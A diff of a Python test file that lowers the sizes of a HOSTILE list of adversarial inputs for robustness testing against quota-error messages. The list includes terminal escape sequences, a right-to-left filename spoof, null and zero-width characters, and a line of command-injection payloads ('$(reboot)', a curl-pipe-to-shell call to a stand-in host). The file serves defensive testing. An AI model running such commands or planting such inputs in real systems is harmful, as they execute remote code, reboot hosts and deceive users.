@@ -169,9 +169,9 @@ def _check(answer: Explanation) -> None:
 
 
 HOSTILE = [
-    *(unit * 100_000 for unit in ("Limit is 1 GPUs, currently ", '"', "1 node ", "a quota has reached the")),
-    *(f"{text} " * 20_000 for text in ("\x1b[2J\x1b]0;owned\x07", "line\nline", "\u202egpj.exe", "\u200b\x00")),
-    "Reason: OverLimit, Details: a\n" * 100_000,
+    *(unit * 10_000 for unit in ("Limit is 1 GPUs, currently ", '"', "1 node ", "a quota has reached the")),
+    *(f"{text} " * 4_000 for text in ("\x1b[2J\x1b]0;owned\x07", "line\nline", "\u202egpj.exe", "\u200b\x00")),
+    "Reason: OverLimit, Details: a\n" * 10_000,
     "$(reboot) `reboot` ; curl example.invalid | sh\n",
 ]  # fmt: skip
 
